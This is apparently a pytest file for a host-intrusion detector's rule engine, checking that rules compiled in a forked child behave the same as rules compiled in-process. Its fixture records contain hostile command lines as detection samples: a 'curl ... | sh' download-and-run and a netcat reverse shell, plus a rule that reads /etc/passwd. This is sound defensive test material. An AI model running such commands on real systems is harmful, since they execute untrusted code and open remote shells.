"""Rules compiled in a short-lived child (rules/offload.py, Engine(isolate=True)): the same
rules, plans, judges and problems as compiled in-process, and no sqlglot in the process
that runs them (the detector)."""

from __future__ import annotations

import os
import pickle
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from daemoneye.rules import offload
from daemoneye.rules.engine import Engine
from daemoneye.rules.judge import MAYBE
from daemoneye.rules.live import EventIn
from daemoneye.rules.model import parse_rules_text

pytestmark = pytest.mark.skipif(not offload.supported(), reason="fork is Linux-only here")

SHIPPED = Path(__file__).resolve().parents[2] / "deploy" / "rules"


def _plan_fields(engine: Engine) -> dict[str, tuple]:
    out = {}
    for rule_id, active in engine.rules.items():
        p = active.plan
        out[rule_id] = (
            active.rule,
            active.tables,
            p.mode,
            p.sql,
            p.driver,
            p.identity_columns,
            p.screen,
            p.needs,
            p.window_names,
            p.judge_screen,
            p.judge is None,
        )
    return out


def test_a_child_s_result_and_errors_come_back() -> None:
    assert offload.call(lambda a, b: {"sum": a + b, "pid": os.getpid()}, 2, 3)["sum"] == 5
    assert offload.call(os.getpid) != os.getpid()
    with pytest.raises(ValueError, match="bad rule"):
        offload.call(lambda: (_ for _ in ()).throw(ValueError("bad rule")))

    class Own(Exception):  # not a built-in: its text comes back, the class need not
        pass

    def own() -> None:
        raise Own("its own kind")

    with pytest.raises(offload.OffloadError, match="its own kind"):
        offload.call(own)
    with pytest.raises(offload.OffloadError, match="signal 9"):
        offload.call(lambda: os.kill(os.getpid(), signal.SIGKILL))
    with pytest.raises(offload.OffloadError, match="pickle"):
        offload.call(lambda: lambda: None)  # a closure does not pickle


def test_the_shipped_rules_compile_alike_in_a_child_and_in_process() -> None:
    isolated, local = Engine(isolate=True), Engine()
    changes, problems = isolated.load_paths([SHIPPED])
    assert problems == [] and len(changes["added"]) > 50
    assert local.load_paths([SHIPPED]) == (changes, problems)
    assert _plan_fields(isolated) == _plan_fields(local)
    assert sum(a.plan.judge is not None for a in isolated.rules.values()) > 50


def test_a_linked_judge_gives_the_verdicts_of_one_compiled_in_process() -> None:
    isolated, local = Engine(isolate=True), Engine()
    isolated.load_paths([SHIPPED])
    local.load_paths([SHIPPED])
    records = [
        {"pid": 10, "ppid": 1, "startTicks": 1, "exePath": "/tmp/x", "name": "x",
         "cmdline": ["/tmp/x", "-c", "curl http://a | sh"], "uid": 0, "euid": 0},
        {"pid": 11, "ppid": 10, "startTicks": 2, "exePath": "/usr/bin/nc", "name": "nc",
         "cmdline": ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"], "uid": 1000, "euid": 0},
        {"pid": 12, "ppid": 1, "startTicks": 3, "exePath": "/bin/true", "name": "true",
         "cmdline": ["/bin/true"], "uid": 1000, "euid": 1000},
    ]  # fmt: skip
    _, batch = local.apply([EventIn("start", r) for r in records])
    rows = [proc.row for proc in batch.procs.values()]
    judged = 0
    for rule_id, active in local.rules.items():
        mine, theirs = active.plan.judge, isolated.rules[rule_id].plan.judge
        if mine is None:
            continue
        for row in rows:
            verdict = mine(row, {})
            assert theirs(row, {}) is verdict, rule_id
            judged += verdict is not MAYBE
    assert judged > 0
    # the plan of a pickle is the plan linked again
    plan = next(a.plan for a in local.rules.values() if a.plan.judge is not None)
    again = pickle.loads(pickle.dumps(plan))
    assert again.judge is not None and again.judge_screen == plan.judge_screen


def test_problems_name_the_file_line_and_reason_as_in_process(tmp_path: Path) -> None:
    (tmp_path / "bad.yml").write_text(
        "id: ok\nname: ok\nsql: SELECT pid FROM processes\n---\n"
        "id: drop\nname: d\nsql: |\n  SELECT pid FROM processes;\n  DROP TABLE processes\n---\n"
        "id: col\nname: c\nsql: SELECT pid, nosuch FROM processes\n"
    )
    (tmp_path / "yaml.yml").write_text("id: [unclosed\n")
    isolated, local = Engine(isolate=True), Engine()
    got = isolated.load_paths([tmp_path])
    assert got == local.load_paths([tmp_path])
    changes, problems = got
    assert changes["added"] == ["ok"]
    text = "\n".join(str(p) for p in problems)
    assert "bad.yml" in text and "nosuch" in text and "yaml.yml" in text
    assert {p.rule_id for p in problems} >= {"drop", "col"}
    # a rule checked alone, and an ad-hoc query
    rules, _ = parse_rules_text("id: r\nname: r\nsql: SELECT readfile('/etc/passwd')\n", "t.yml")
    assert isolated.check(rules[0]) == local.check(rules[0]) is not None
    assert isolated.check_rules([]) == []
    with pytest.raises(ValueError, match="only a SELECT"):
        isolated.query("DELETE FROM processes", 1.0, 1)
    assert isolated.query("SELECT count(*) FROM processes", 1.0, 1)[1] == [(0,)]


def test_a_reload_in_a_child_keeps_the_differential_state(tmp_path: Path) -> None:
    (tmp_path / "tmp.yml").write_text(
        "id: tmp-exec\nname: t\nsql: SELECT pid FROM processes WHERE path LIKE '/tmp/%'\n"
    )
    engine = Engine(isolate=True)
    engine.load_paths([tmp_path])
    record = {"pid": 5, "ppid": 1, "startTicks": 9, "exePath": "/tmp/a", "cmdline": ["a"]}
    assert len(engine.apply([EventIn("start", record)])[0]) == 1
    changes, _ = engine.load_paths([tmp_path])
    assert changes["unchanged"] == ["tmp-exec"]
    assert engine.apply([EventIn("modify", record)])[0] == []


def test_the_detector_runs_its_rules_without_importing_sqlglot(tmp_path: Path) -> None:
    """What the detector does with rules (load, reload, an ad-hoc query, `rules try`'s
    check), in a fresh interpreter: sqlglot (and the YAML parser) are imported only by
    the children."""
    script = (
        "import sys, time\n"
        "from daemoneye.services.detector.service import Detector, default_rules_dir\n"
        "from daemoneye.rules.engine import Engine\n"
        "from daemoneye.rules.live import EventIn\n"
        "e = Engine(isolate=True)\n"
        "e.load_paths([default_rules_dir()]); e.load_paths([default_rules_dir()])\n"
        "rec = {'pid': 5, 'ppid': 1, 'startTicks': 9, 'exePath': '/tmp/a', 'cmdline': ['a']}\n"
        "assert e.apply([EventIn('start', rec)])[0]\n"
        "e.query('SELECT pid FROM processes', 1.0, 10)\n"
        "assert e.check_rules(list(e.rules[r].rule for r in list(e.rules)[:3])) == [None] * 3\n"
        "print(sorted(m for m in sys.modules if m.split('.')[0] in ('sqlglot', 'yaml')))\n"
    )
    argv = [sys.executable, "-c", script]
    out = subprocess.run(argv, capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    assert out.stdout.strip() == "[]"


def test_a_child_that_does_not_answer_in_time_is_killed(tmp_path: Path) -> None:
    """A compile that hangs (sqlglot in a loop on some rule) costs a refused load, not
    the detector: the child is killed and reaped, the caller gets OffloadError."""
    pid_file = tmp_path / "child.pid"

    def hang() -> None:
        pid_file.write_text(str(os.getpid()))
        signal.pause()  # nothing will wake it

    with pytest.raises(offload.OffloadError, match=r"did not answer within 0\.5 s"):
        offload.call(hang, timeout_s=0.5)
    with pytest.raises(ProcessLookupError):  # killed and reaped: no such process left
        os.kill(int(pid_file.read_text()), 0)
    assert offload.call(os.getpid, timeout_s=30) != os.getpid()  # the next one works
